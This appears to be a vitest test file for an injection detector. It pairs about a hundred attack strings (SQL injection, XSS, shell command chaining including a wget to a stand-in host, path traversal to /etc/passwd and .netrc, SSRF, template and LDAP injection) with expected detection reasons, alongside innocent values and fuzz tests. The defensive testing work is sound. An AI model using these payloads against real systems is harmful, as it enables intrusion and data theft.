// The detectors on values of our own: each attack with the reason it must be found by, each innocent
// value with nothing found, the gate against a plain loop, and bytes at random without a trap.
import { beforeAll, describe, expect, test } from "vitest";
import { DetectProbe } from "../vectors/detect-probe.ts";
import { seededRandom } from "../vectors/seeded-random.ts";

let probe: DetectProbe;
beforeAll(async () => {
  probe = await DetectProbe.create();
});

const attacks: [value: string, reason: string][] = [
  ["1' or '1'='1", "sql.tautology"],
  ["5 and 7=7", "sql.tautology"],
  ['x") or ("a"="a', "sql.tautology"],
  ["0 union all select null, password from accounts", "sql.union"],
  ["9/**/union/**/select/**/1,2", "sql.union"],
  ["1 /*!50000union*/ /*!50000select*/ 1,2", "sql.union"],
  ["-1 union select 0x41,0x42", "sql.union"],
  ["7 union select mail from password", "sql.union"],
  ["7' union select mail from position where 'x", "sql.union"],
  ["%27+union+select+1%2C2", "sql.query"],
  ["bob'; drop table orders", "sql.stacked_statement"],
  ["admin'-- ", "sql.comment_truncation"],
  ["1 and sleep(9)", "sql.tautology"],
  ["';waitfor delay '0:0:7'--", "sql.function"],
  ["7' order by 4-- -", "sql.clause"],
  ["'||(select version())||'", "sql.tautology"],
  ["<script>x()</script>", "script.tag"],
  ["<img src=x onerror=go()>", "script.event_attribute"],
  ['" onfocus=go() autofocus x="', "script.event_attribute"],
  ["java\tscript:go()", "script.url"],
  ["<a href='jav&#x61;script:go()'>", "script.url"],
  ["';alert(7)//", "script.call"],
  ["; wget http://h.example/x", "command.chain"],
  ["a|id", "command.chain"],
  ["$(whoami)", "command.substitution"],
  ["x;w'h'oami", "command.chain"],
  ["cat${IFS}/x", "command.substitution"],
  ["() { :;}; echo", "command.code"],
  ["../../secret", "path.dot_segments"],
  ["..%252f..%252fsecret", "path.dot_segments"],
  ["%c0%ae%c0%ae/x", "path.dot_segments"],
  ["/etc/passwd", "path.sensitive_file"],
  ["report.pdf%00.png", "path.null_byte"],
  ["php://filter/read=x", "path.wrapper"],
  ["http://127.0.0.1:9000/", "ssrf.address"],
  ["http://0x7f.1/", "ssrf.address"],
  ["http://[::ffff:10.0.0.1]/", "ssrf.address"],
  ["http://localhost/", "ssrf.host"],
  ["gopher://h.example/", "ssrf.scheme"],
  ["{{7*7}}", "template.expression"],
  ["${jndi:x}", "template.object"],
  ['{"$ne": null}', "nosql.operator"],
  ["*)(uid=*", "ldap.filter"],
  ["x\r\nSet-Cookie: a=b", "header.line_break"],
  ['<!DOCTYPE a [<!ENTITY b SYSTEM "c">]>', "xml.entity"],
  ["__proto__[admin]", "prototype.key"],
  ["PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "script.tag"],
  ["\\u003cscript\\u003e", "script.tag"],
  ["&lt;svg onload=go()&gt;", "script.event_attribute"],
  ["7 and -3=-3", "sql.tautology"],
  ["x and 2+3=5", "sql.tautology"],
  ["4 or 1=@@version", "sql.tautology"],
  ["item-3 or 1 group by concat(version(),1)", "sql.clause"],
  ["(case when 3=4 then 5 else null end)", "sql.function"],
  ["f,iif(11=12,1,2)", "sql.function"],
  ["b'||'c'||'", "sql.tautology"],
  ["b'+'c", "sql.operator"],
  ["12 --", "sql.comment_truncation"],
  ["3or4=4", "sql.tautology"],
  ["5 /*!40101 x */", "sql.comment_truncation"],
  ["or true", "sql.tautology"],
  ["-7 union", "sql.union"],
  ["1) from users where name=2", "sql.clause"],
  ["0x2e0x2e0x2fkeys", "path.dot_segments"],
  ["..2f..2fkeys", "path.dot_segments"],
  ["/etc/postfix/main.cf", "path.sensitive_file"],
  ["/srv/ada/.netrc", "path.sensitive_file"],
  ["\\6a\\61\\76\\61script:go()", "script.url"],
  ["%253c", "script.encoded_markup"],
  ["'; var a='", "script.call"],
  ['"});//', "script.call"],
  ["(function(){go()})()", "script.call"],
  ["[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]", "script.call"],
  ["top[/al/.source+/ert/.source](1)", "script.call"],
  ["</textarea>", "script.tag"],
  ["<form action=//h.example>", "script.tag"],
  ['<p style="a:b}c">', "script.style"],
  ["onmozanything", "script.event_attribute"],
  ["\u00bcscript\u00begoes\u00bc/script\u00be", "script.tag"],
  ["{cat,/x}", "command.line"],
  ["<(cat x)", "command.substitution"],
  ["/usr/[b]in/x", "command.line"],
  ["for /f %a in ('dir') do x", "command.line"],
  ["if not exist c:\\x y", "command.line"],
  [";ansible-doc -l", "command.chain"],
  ["http://\u2460\u2461\u2466.0.0.1/", "ssrf.address"],
  ["http://host.docker.internal/", "ssrf.host"],
  ["localhost:3306", "ssrf.host"],
  ["http://1.1.1.1 &@2.2.2.2#", "ssrf.credentials"],
  ["(mail=*)", "ldap.filter"],
  ["a)(uid~=x", "ldap.filter"],
  ["a)(uid>=x", "ldap.filter"],
  ["a)(cn:=x", "ldap.filter"],
  ["a)(uid:dn:=b", "ldap.filter"],
  [")(department:caseExactMatch:=it", "ldap.filter"],
  ["a)(cn;lang-en=b", "ldap.filter"],
  ["a)(2.5.4.3=b", "ldap.filter"],
  ["(objectClass:1.2.840.113556.1.4.803:=2)", "ldap.filter"],
  ["mail:2.5.13.5:=x", "ldap.filter"],
  ["cn:dn:2.5.13.2:=x", "ldap.filter"],
  ["(member:dn:1.2.840.113556.1.4.1941:=cn=x)", "ldap.filter"],
  ["{{a".repeat(200), "template.expression"],
  ["\u560a\u560dSet-Cookie: a=b", "header.line_break"],
  ["data://text/plain;base64,QQ==", "path.wrapper"],
  ["cmd /c dir", "command.line"],
  ["||'7", "sql.tautology"],
  ["1;return(true)", "script.call"],
  ["@(3*4)", "template.expression"],
  ["{{ config }}", "template.object"],
  ["{{settings.SECRET_KEY}}", "template.object"],
];

const innocent = [
  "O'Brien and sons",
  "select a union of workers from the list",
  "the union selected a delegate",
  "select one from left and one from right",
  "ratio:1.2:3 and time:2.5.13",
  "drop the table by the door; update us",
  "rock 'n' roll and 5 = five",
  "It's 12:30, or later -- we will see",
  "(uid~=admin) holds in Lua, (n:=5) in Python",
  "(width>=640px) and (height>=1)",
  "Hello {{name}}, ${day} and #{place} are ${free ? 1 : 0} of {{count}}",
  "5' or 6' tall",
  '18" and a half',
  "Tom & find out; who knows",
  "salt & sort, cats; cut the rope",
  "1 < 2 and 3 > 2",
  "I <3 you",
  "a <b>bold</b> claim, <em>really</em>",
  "JavaScript: The Good Parts",
  "on Monday = closed",
  "price: $5 (was $7)",
  "{{name}}, welcome",
  "${USER} is a placeholder",
  "C:\\fakepath\\photo.jpg",
  "../images/logo.png is not here".slice(3),
  "see [docs](../guide.md)",
  "https://example.com/a?b=c&d=e",
  "version 10.0.0.1 of the tool",
  "2147483647",
  "margin: 0 auto; color: #fff",
  "user@example.com",
  "line one\nline two\nHost of the party",
  "x = y; y = z",
  "And then there were none",
  "500 W 3rd St. #5",
  "const v = load();\nif (v) {\n  v.run();\n}",
  "`wasm-eval`, a tool",
  "&copy; 2026, &sum; of all",
  "日本語のテキスト",
  "5 union members",
  "apt 5 #3 -- rear door",
  "in case when they come, then we go",
  "if not, exist quietly",
  "for 20% in (about) a week",
  "color 0x2f4f4f, mask 0xff",
  "he said 'yes'; new rules apply",
  "rock'-n'-roll",
  "{cat, dog}",
  "½ cup, ¼ spoon and ¾ more",
  "Form <b>A</b> of the function (see page 3)",
  "/usr/local/share/fonts",
  ".profile",
  "group by color, order by size",
  "take 2 or 3 = fine",
  "3rd or 4th",
  "{{settings.title}} {{selfie}}",
  "import statements; return labels",
  "mail (me) @home (2 * 3 days)",
  "test this by removing `/login` from the request",
];

describe("attacks", () => {
  test.each(attacks)("%j is %s", (value, reason) => {
    expect(probe.judge(value).reason).toBe(reason);
  });
});

describe("innocent values", () => {
  test.each(innocent.map((value) => [value]))("%j", (value) => {
    expect(probe.judge(value)).toMatchObject({ kind: "", reason: "" });
  });
});

const levels: [value: string, low: string, normal: string, high: string, paranoid: string][] = [
  ["1' or '1'='1", "sql.tautology", "sql.tautology", "sql.tautology", "sql.tautology"],
  ["ifconfig", "", "command.name", "command.name", "command.name"],
  ["%253c", "", "script.encoded_markup", "script.encoded_markup", "script.encoded_markup"],
  ["*)(", "", "ldap.filter", "ldap.filter", "ldap.filter"],
  ["10.0.0.7", "", "", "ssrf.address", "ssrf.address"],
  ["O'Neill", "", "", "", "sql.operator"],
  ["a -- b", "", "", "", "sql.operator"],
  ["a <b>c</b>", "", "", "", "script.tag"],
  ["see [docs](../guide.md)", "", "", "", "path.dot_segments"],
  ["this; that", "", "", "", "command.chain"],
  ["${x}", "", "", "", "template.expression"],
  ["http://8.8.8.8/", "", "", "", "ssrf.address"],
  ["2026-11-27T10:00:00Z, 42.7 kg (net)", "", "", "", ""],
];

test.each(levels)("%j by each level", (value, ...reasons) => {
  expect([1, 2, 3, 4].map((level) => probe.judge(value, 2047, level).reason)).toEqual(reasons);
});

test("a class that is not asked for is not found", () => {
  expect(probe.judge("1' or '1'='1", 2047 & ~1).kind).toBe("");
  expect(probe.judge("<script>", 1).kind).toBe("");
});

test("the evidence lies within the value", () => {
  for (const [value] of attacks) {
    const verdict = probe.judge(value);
    if (verdict.depth > 0) continue;
    expect(verdict.start + verdict.length, value).toBeLessThanOrEqual(Buffer.byteLength(value));
  }
});

const kinds = ["'\"", ";<=>", "()*", "#$%&", "[\\]^{|}~", "`", "/"]
  .map((text) => [...text].map((c) => c.charCodeAt(0)))
  .concat([Array.from({ length: 32 }, (_, i) => i)], [[58]], [[33]], [[45, 46]], [[44]], [[32]])
  .concat([[43]], [[63, 95]], [Array.from({ length: 128 }, (_, i) => i + 128)]);

test("the gate knows every byte, in vectors and behind them", () => {
  for (let byte = 0; byte < 256; byte++) {
    const wanted = kinds.reduce((sum, set, i) => sum | (set.includes(byte) ? 1 << i : 0), 0);
    for (const size of [1, 16, 21]) {
      const value = new Uint8Array(size).fill(97);
      value[size - 1] = byte;
      value[0] = byte;
      probe.load(value);
      expect(probe.traits(size), `byte ${byte} in ${size}`).toBe(wanted);
    }
  }
});

test("random bytes and torn attacks never trap", () => {
  const below = seededRandom(7);
  const pieces = [
    ...attacks.map(([value]) => value),
    "'",
    '"',
    "<",
    "(",
    "\\",
    "%",
    "&#",
    "${",
    "{{",
  ];
  for (let turn = 0; turn < 20000; turn++) {
    let text = "";
    while (text.length < 60 && below(10) < 8) {
      const piece = pieces[below(pieces.length)];
      text += piece.slice(below(4), below(piece.length) + 1);
      if (below(10) < 3) text += String.fromCharCode(below(256));
    }
    probe.judge(Buffer.from(text, "latin1"), 2047, 1 + (turn % 3));
  }
});
